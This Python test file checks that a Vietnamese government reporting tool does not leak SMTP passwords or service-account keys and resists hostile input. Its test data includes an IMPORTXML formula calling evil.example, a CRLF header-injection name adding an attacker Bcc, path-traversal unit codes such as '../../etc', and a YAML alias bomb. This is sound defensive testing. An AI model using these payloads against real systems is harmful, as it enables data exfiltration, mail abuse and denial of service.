"""Secrets stay secret and sheet data cannot reach outside its box.

A recognisable SMTP password (a wrong one, then the right one) and a service-account key are
planted; the report, check and reminder flows run against the loopback Sheets server and an
aiosmtpd server; then every log line (pytest's capture, the console, Prefect's API logs), every
artifact, every state message, every file under the output folder (decompressed) and the values
written back to the sheet are searched for them. Also: .env and key files are git-ignored, the
write-back is RAW, sheet text cannot add e-mail headers, and unit codes or periods cannot make a
file outside the output folder.
"""

from __future__ import annotations

import base64
import email
import email.policy
import gzip
import json
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import (
    ArtifactFilter,
    ArtifactFilterFlowRunId,
    FlowRunFilter,
    FlowRunFilterName,
    LogFilter,
    LogFilterFlowRunId,
)
from prefect.logging.handlers import APILogWorker

from flows.check import check
from flows.remind import remind
from flows.report import report
from tasks.collect import read_workbook
from tasks.contract import SUMMARY_TITLE
from tasks.deliver import compose_reminder, period_folder
from tasks.errors import OutputError
from tasks.mail import deliver_mail
from tasks.reminders import Item, UnitReminder
from tasks.settings import REPO_ROOT, SAMPLE_WORKBOOK, Settings
from tests.builders import ROSTER, book
from tests.reliability import record, save_xlsx
from tests.sheets_emulator import ACCOUNT_KEY_ID, Formula, SheetsEmulator
from tests.smtp_server import TEST_USER, SmtpTestServer

pytestmark = [
    pytest.mark.usefixtures("prefect_harness"),
    pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS:UserWarning"),
]

KEY = "1SoXayDungDakLak_CCHC_2026_bimatABCDEFGHIJ"
GOOD_PASSWORD = "BiMat-SMTP-Q7x!2026-DakLak"
WRONG_PASSWORD = "SaiMatKhau-Z9k#4411"
UNICODE_PASSWORD = "MậtKhẩu-Đắk-Ư8#"  # smtplib cannot send it: refused before connecting
FORMULA = '=IMPORTXML("http://evil.example/x","//a")'


def secret_forms(secret: str) -> set[str]:
    """The secret and the encodings a careless log or file could hold it in."""
    raw = secret.encode("utf-8")
    return {
        secret,
        base64.b64encode(raw).decode(),
        base64.b64encode(f"\0{TEST_USER}\0{secret}".encode()).decode(),  # AUTH PLAIN
        json.dumps(secret)[1:-1],
    }


def key_forms(pem: str) -> set[str]:
    """Lines of the private key's body (any one of them in the open means a leak)."""
    body = [line for line in pem.splitlines() if line and not line.startswith("-----")]
    return {*body[:3], *body[-2:], ACCOUNT_KEY_ID}


def texts_under(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` as text: .gz decompressed, .docx/.xlsx unzipped, .eml parsed
    (its decoded parts too, so base64 or quoted-printable cannot hide anything)."""
    found: dict[str, str] = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        data = path.read_bytes()
        name = str(path.relative_to(folder))
        if path.name.endswith(".gz"):
            data = gzip.decompress(data)
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    found[f"{name}!{member}"] = archive.read(member).decode("utf-8", "replace")
            continue
        found[name] = data.decode("utf-8", "replace")
        if path.suffix == ".eml":
            message = email.message_from_bytes(data, policy=email.policy.default)
            for number, part in enumerate(message.walk()):
                payload = part.get_payload(decode=True)
                if payload:
                    found[f"{name}#part{number}"] = payload.decode("utf-8", "replace")
    return found


def prefect_records(states: list[Any]) -> dict[str, str]:
    """Prefect's API logs, artifacts and state messages of the given flow runs."""
    APILogWorker.drain_all(timeout=10)  # logs go to the API in the background: send them
    ids = [s.state_details.flow_run_id for s in states]
    with get_client(sync_client=True) as client:
        logs = client.read_logs(log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=ids)))
        artifacts = client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=ids))
        )
        runs = [client.read_flow_run(i) for i in ids]
    found = {f"log {n}": log.message for n, log in enumerate(logs)}
    for artifact in artifacts:
        found[f"artifact {artifact.key}"] = json.dumps(
            [artifact.data, artifact.description], ensure_ascii=False, default=str
        )
    for run in runs:
        found[f"run {run.name}"] = json.dumps(
            [run.state.message if run.state else "", run.parameters], default=str
        )
    for state in states:
        found[f"state {state.state_details.flow_run_id}"] = state.message or ""
    assert logs, "no Prefect logs were read: the search would prove nothing"
    return found


def leaks(haystacks: dict[str, str], needles: set[str]) -> list[str]:
    return sorted(
        f"{where}: {needle[:12]}…"
        for where, text in haystacks.items()
        for needle in needles
        if needle in text
    )


@pytest.fixture
def google(out: Path, emulator: SheetsEmulator, key_file: Path, monkeypatch: pytest.MonkeyPatch):
    """The sample as a Google Sheet, plus a product whose unit cell looks like a formula."""
    tabs = {
        title: [list(r) for r in tab.rows]
        for title, tab in read_workbook(SAMPLE_WORKBOOK).tabs.items()
    }
    products = tabs["Tin bài"]
    products.append(
        ["05/05/2026", FORMULA, 3, "Website", "Tin", "Tin có ô công thức", "https://x.vn"]
    )
    emulator.add_book(KEY, tabs)
    monkeypatch.setenv("CCHC_SOURCE", KEY)
    monkeypatch.setenv("CCHC_SHEETS_ENDPOINT", emulator.url)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
    monkeypatch.setenv("CCHC_SHEETS_RETRY_BUDGET", "3")
    return emulator


def test_no_secret_in_logs_artifacts_files_or_messages(
    out: Path,
    google: SheetsEmulator,
    key_file: Path,
    private_key_pem: bytes,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level("DEBUG")
    needles = secret_forms(GOOD_PASSWORD) | secret_forms(WRONG_PASSWORD)
    needles |= secret_forms(UNICODE_PASSWORD)
    needles |= key_forms(private_key_pem.decode())
    assert all(n in key_file.read_text() for n in key_forms(private_key_pem.decode()))

    with SmtpTestServer("auth", password=GOOD_PASSWORD) as server:
        monkeypatch.setenv("CCHC_SMTP_HOST", "127.0.0.1")
        monkeypatch.setenv("CCHC_SMTP_PORT", str(server.port))
        monkeypatch.setenv("CCHC_SMTP_SECURITY", "none")
        monkeypatch.setenv("CCHC_SMTP_USER", TEST_USER)
        monkeypatch.setenv("CCHC_SMTP_RETRIES", "0")
        monkeypatch.setenv("CCHC_SMTP_PASSWORD", WRONG_PASSWORD)
        refused = report(period="2026-05", as_of="2026-11-28", send=True, return_state=True)
        monkeypatch.setenv("CCHC_SMTP_PASSWORD", UNICODE_PASSWORD)
        diacritics = report(period="2026-05", as_of="2026-11-28", send=True, return_state=True)
        monkeypatch.setenv("CCHC_SMTP_PASSWORD", GOOD_PASSWORD)
        sent = report(period="2026-05", as_of="2026-11-28", send=True, return_state=True)
        received = [m.raw.decode("utf-8", "replace") for m in server.messages]
    monkeypatch.delenv("CCHC_SMTP_HOST")
    checked = check(return_state=True)
    reminded = remind(as_of="2026-11-19", send=True, return_state=True)

    assert refused.is_failed() and "từ chối đăng nhập" in refused.message
    assert diacritics.is_failed() and "ngoài bảng mã ASCII" in diacritics.message
    assert sent.is_completed(), sent.message
    assert checked.is_completed() and reminded.is_completed(), reminded.message
    assert len(received) == 2  # the leaders' e-mail and the Office's copy
    assert list((out / "outbox").glob("*.eml"))

    console = capfd.readouterr()
    haystacks: dict[str, str] = {
        "caplog": caplog.text,
        "caplog messages": "\n".join(r.getMessage() for r in caplog.records),
        "stdout": console.out,
        "stderr": console.err,
        "sheet `Tổng hợp`": json.dumps(google.sheet(KEY, SUMMARY_TITLE).rows, ensure_ascii=False),
        **{f"e-mail {n}": text for n, text in enumerate(received)},
        **prefect_records([refused, diacritics, sent, checked, reminded]),
        **texts_under(out),
    }
    found = leaks(haystacks, needles)
    # The search is not vacuous: the places searched hold what a leak would sit next to.
    assert "từ chối đăng nhập" in haystacks["caplog"] + haystacks["stderr"]
    assert any(k.endswith(".eml") for k in haystacks) and any(".json.gz" in k for k in haystacks)
    record(
        "secrets",
        "no-secret-anywhere",
        "report (Google source; SMTP password wrong, then with diacritics, then right), check "
        "and remind runs; "
        f"searched {len(haystacks)} places: pytest and console logs, Prefect API logs, artifacts, "
        "state messages, every file under the output folder (.gz, .docx, .eml decoded), the "
        "e-mail received and the `Tổng hợp` values",
        "no password (raw, base64, AUTH PLAIN, JSON-escaped), no private-key line, no key id",
        "none found" if not found else "FOUND: " + "; ".join(found),
    )
    assert found == []

    # Values written to the sheet are RAW: the formula-looking cell comes back as text.
    writes = google.writes()
    assert writes and all(w.query.get("valueInputOption", ["RAW"]) == ["RAW"] for w in writes)
    summary = google.sheet(KEY, SUMMARY_TITLE).rows
    cells = [cell for row in summary for cell in row]
    assert FORMULA in cells and not any(isinstance(c, Formula) for c in cells)
    record(
        "secrets",
        "write-back-raw",
        f"a unit cell holding {FORMULA} in `Tin bài`, listed as a problem in `Tổng hợp`",
        "every write uses valueInputOption=RAW; the value stays text",
        f"{len(writes)} writes, all RAW; the cell is written back as the text {FORMULA}",
    )


@pytest.mark.parametrize(
    "name",
    [".env", "config/.env", "service-account.json", "x.key.json", "credentials.json", "var/a.eml"],
)
def test_env_and_key_files_are_git_ignored(name: str) -> None:
    git = shutil.which("git")
    if git is None or not (REPO_ROOT / ".git").exists():
        pytest.skip("not a git checkout")
    ignored = subprocess.run(
        [git, "-C", str(REPO_ROOT), "check-ignore", "-q", "--no-index", name], check=False
    )
    record(
        "secrets",
        f"git-ignored:{name}",
        f"`git check-ignore {name}`",
        "ignored (cannot be committed by accident)",
        "ignored" if ignored.returncode == 0 else "NOT ignored",
    )
    assert ignored.returncode == 0
    kept = subprocess.run(
        [git, "-C", str(REPO_ROOT), "check-ignore", "-q", "--no-index", "tasks/settings.py"],
        check=False,
    )
    assert kept.returncode == 1  # the check itself works: source files are not ignored


INJECTED_NAME = "Phòng Thử\r\nBcc: attacker@evil.example\r\nX-Injected: yes"


def _headers(path: Path) -> tuple[list[str], Any]:
    message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    return [k.lower() for k in message.keys()], message


def test_sheet_text_cannot_add_e_mail_headers_or_leave_the_outbox(
    out: Path, tmp_path: Path
) -> None:
    units = [
        *ROSTER,
        ["INJ", INJECTED_NAME, "inj@sxd.vn", "", "", ""],
        ["../../etc", "Đơn vị có mã lạ", "etc@sxd.vn", "", "", ""],
    ]
    source = save_xlsx(book(units=units), tmp_path / "tiem.xlsx")
    state = remind(as_of="2026-11-19", source=str(source), send=True, return_state=True)
    assert state.is_completed(), state.message
    assert {"INJ", "../../etc"} <= set(state.result()["reminded"])

    outbox = out / "outbox"
    files = sorted(outbox.glob("*.eml"))
    everything = sorted(p for p in tmp_path.rglob("*") if p.is_file() and p.suffix == ".eml")
    assert everything == files  # no e-mail file anywhere but the outbox
    assert not (tmp_path / "etc").exists() and not (out.parent.parent / "etc").exists()
    by_to: dict[str, tuple[list[str], Any]] = {}
    for path in files:
        keys, message = _headers(path)
        assert "bcc" not in keys and "x-injected" not in keys, path.name
        assert keys.count("to") == 1 and keys.count("subject") == 1
        assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
        by_to[str(message["To"])] = (keys, message)
    injected = next(m for to, (_, m) in by_to.items() if "inj@sxd.vn" in to)
    assert [a.addr_spec for a in injected["To"].addresses] == ["inj@sxd.vn"]
    assert "Phòng Thử Bcc: attacker@evil.example X-Injected: yes" in str(injected["Subject"])
    etc_file = next(p for p in files if "etc" in p.name)
    assert etc_file.parent == outbox and etc_file.name.startswith("remind-etc-")
    record(
        "secrets",
        "header-injection-from-sheet",
        "unit name 'Phòng Thử\\r\\nBcc: attacker@evil.example\\r\\nX-Injected: yes' in `Đơn vị`, "
        "`cchc remind` to the outbox",
        "no extra header; To holds only the unit's address",
        f"headers {sorted(set(by_to[next(iter(by_to))][0]))}; the name stays in the Subject on "
        "one line",
    )
    record(
        "secrets",
        "unit-code-path",
        "unit code '../../etc' (reminder key remind:../../etc:2026-11-19)",
        "the .eml is written inside outbox/",
        f"written as outbox/{etc_file.name}; no file outside the outbox",
    )


def test_crlf_in_a_name_given_to_the_mail_layer_directly(tmp_path: Path, plan: Any) -> None:
    # normalize already flattens CR/LF; the mail layer must hold on its own too.
    reminder = UnitReminder(
        "../../../tmp/x", INJECTED_NAME, ["inj@sxd.vn"], [Item("quota:2026-11", "Tin, bài")]
    )
    mail = compose_reminder(reminder, plan, date(2026, 11, 19))
    result = deliver_mail(mail, Settings(), tmp_path)  # type: ignore[call-arg]
    assert result.path is not None and result.path.parent == tmp_path / "outbox"
    keys, message = _headers(result.path)
    assert "bcc" not in keys and "x-injected" not in keys
    assert [a.addr_spec for a in message["To"].addresses] == ["inj@sxd.vn"]
    record(
        "secrets",
        "header-injection-mail-layer",
        "a reminder built directly with that name and unit code '../../../tmp/x'",
        "no extra header; file inside outbox/",
        f"headers {sorted(set(keys))}; written as outbox/{result.path.name}",
    )


def test_a_period_cannot_name_a_folder_outside_the_output(out: Path, tmp_path: Path) -> None:
    state = report(period="../../x", as_of="2026-11-28", return_state=True)
    assert state.is_failed()
    assert state.message.startswith("Kỳ báo cáo '../../x' không hợp lệ")
    with pytest.raises(OutputError, match="không hợp lệ để làm tên thư mục"):
        period_folder(out, "../../x")
    assert not (tmp_path / "x").exists() and not (out.parent.parent / "x").exists()
    assert not out.exists() or not any(out.rglob("*.docx"))
    record(
        "secrets",
        "period-path",
        "`cchc report --period ../../x`",
        "rejected before any file is written",
        f"failed: {state.message}",
    )


def test_a_plan_pointing_at_env_never_prints_the_file(
    out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "Mk-trong-env-9482"
    env = tmp_path / ".env"
    env.write_text(
        f"CCHC_SMTP_HOST=mail.daklak.gov.vn\nCCHC_SMTP_PASSWORD={secret}\n", encoding="utf-8"
    )
    monkeypatch.setenv("CCHC_PLAN", str(env))
    state = report(period="2026-05", as_of="2026-11-28", return_state=True)
    assert state.is_failed()
    assert secret not in state.message and "CCHC_SMTP" not in state.message
    assert "không phải tệp kế hoạch" in state.message
    # A .env that happens to read as YAML keys: the key names are named, never the values.
    env.write_text(f"CCHC_SMTP_PASSWORD: {secret}\n", encoding="utf-8")
    keyed = report(period="2026-05", as_of="2026-11-28", return_state=True)
    assert keyed.is_failed() and secret not in keyed.message
    record(
        "secrets",
        "plan-is-env",
        "CCHC_PLAN points at .env (SMTP password inside)",
        "refused; the file's contents are never shown",
        "failed: " + state.message.replace(str(tmp_path), "<thư mục>"),
    )


def test_yaml_aliases_are_refused_before_they_expand(tmp_path: Path) -> None:
    from tasks.errors import PlanError
    from tasks.plan import load_plan

    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for level in range(1, 9):  # 10^9 strings once expanded
        prev = chr(ord("a") + level - 1)
        name = chr(ord("a") + level)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
    bomb = tmp_path / "plan.yaml"
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(PlanError) as err:
        load_plan(bomb)
    assert "bí danh YAML" in str(err.value) and "dòng 2" in str(err.value)
    record(
        "secrets",
        "plan-billion-laughs",
        "plan file of nested YAML aliases (a 'billion laughs' of about 10^9 strings)",
        "refused at the first alias, in milliseconds",
        "refused: " + str(err.value).replace(str(tmp_path), "<thư mục>"),
    )


def test_a_plan_with_no_contents_is_refused(plan_file: Path) -> None:
    from tasks.errors import PlanError
    from tasks.plan import load_plan

    text = plan_file.read_text(encoding="utf-8")
    start, end = text.index("\nareas:\n") + 1, text.index("\n# Hình thức tuyên truyền.")
    plan_file.write_text(text[:start] + "areas: []\n" + text[end:], encoding="utf-8")
    with pytest.raises(PlanError) as err:
        load_plan(plan_file)
    assert "- areas:" in str(err.value)
    record(
        "input",
        "plan-areas-empty",
        "plan file with `areas: []`",
        "refused, naming the key",
        "refused: " + str(err.value).replace(str(plan_file.parent), "<thư mục>"),
    )


def test_init_sheet_never_sends_a_formula_as_a_dropdown_value(
    emulator: SheetsEmulator, key_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tasks.settings import load_settings
    from tasks.sheet_setup import init_sheet

    monkeypatch.setenv("CCHC_SHEETS_ENDPOINT", emulator.url)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
    key = "1CongThucTrongDanhSachChon_ABCDEFGHIJKLM"
    emulator.add_book(key, {"Trang tính1": []})
    codes = ["VP", '=HYPERLINK("http://x.vn","VP")', "+QLXD", "@TTR", "QLN"]
    init_sheet(load_settings(), key, codes)
    sent = [
        value["userEnteredValue"]
        for call in emulator.api_calls(":batchUpdate")
        for request in (call.body or {}).get("requests", [])
        if "setDataValidation" in request
        for value in request["setDataValidation"]["rule"]["condition"].get("values", [])
    ]
    assert "VP" in sent and "QLN" in sent
    assert not any(v.startswith(("=", "+", "@")) for v in sent)
    record(
        "secrets",
        "init-sheet-dropdown-formula",
        "roster codes `=HYPERLINK(…)`, `+QLXD`, `@TTR` offered as dropdown values",
        "left out of the dropdown (still typeable; normalize judges them)",
        f"{len(sent)} dropdown values sent, none starting with = + @",
    )


def test_an_impossible_as_of_date_fails_the_run_in_vietnamese(out: Path) -> None:
    from typer.testing import CliRunner

    from flows.cli import app

    result = CliRunner().invoke(app, ["report", "--period", "2026-05", "--as-of", "0000-01-01"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "Ngày lập báo cáo (--as-of) không hợp lệ: Ngày '0000-01-01' ngoài khoảng hợp lý" in (
        result.output
    )
    with get_client(sync_client=True) as client:
        runs = client.read_flow_runs(
            flow_run_filter=FlowRunFilter(name=FlowRunFilterName(any_=["bao-cao-cchc"]))
        )
    assert runs and all(r.state_type.value == "FAILED" for r in runs)  # none left Pending
    record(
        "input",
        "as-of-year-zero",
        "`cchc report --as-of 0000-01-01`",
        "the run fails with a Vietnamese reason (no traceback, no run left Pending)",
        "failed: " + result.output.strip().splitlines()[-1],
    )


PLAN_CASES = [  # (id, what is given, file bytes, reason expected, text that must not show)
    (
        "plan-yaml-syntax",
        "plan file with a YAML syntax error on a line holding a password",
        b"agency:\n  name: [SO XAY DUNG\nsmtp: MatKhau-123 ]]\n",
        "sai cú pháp YAML",
        "MatKhau-123",
    ),
    (
        "plan-not-utf8",
        "plan file saved in a legacy code page (not UTF-8)",
        "agency:\n  name: Sở Xây dựng\n".encode("cp1258", errors="replace") + b"\xff\xfe",
        "không phải văn bản UTF-8",
        "",
    ),
    (
        "plan-too-large",
        "a 1 MB file given as the plan",
        b"# " + b"x" * 1_048_576 + b"\n",
        "quá lớn",
        "xxxxxxxx",
    ),
]


@pytest.mark.parametrize("case", PLAN_CASES, ids=[c[0] for c in PLAN_CASES])
def test_a_bad_plan_file_is_refused_without_quoting_it(
    case: tuple[str, str, bytes, str, str], tmp_path: Path
) -> None:
    from tasks.errors import PlanError
    from tasks.plan import load_plan

    case_id, given, content, reason, hidden = case
    path = tmp_path / "plan.yaml"
    path.write_bytes(content)
    with pytest.raises(PlanError) as err:
        load_plan(path)
    message = str(err.value)
    assert reason in message and (not hidden or hidden not in message)
    shown = message.replace(str(tmp_path), "<thư mục>")
    record("secrets", case_id, given, "refused; the file's text is not quoted", f"refused: {shown}")
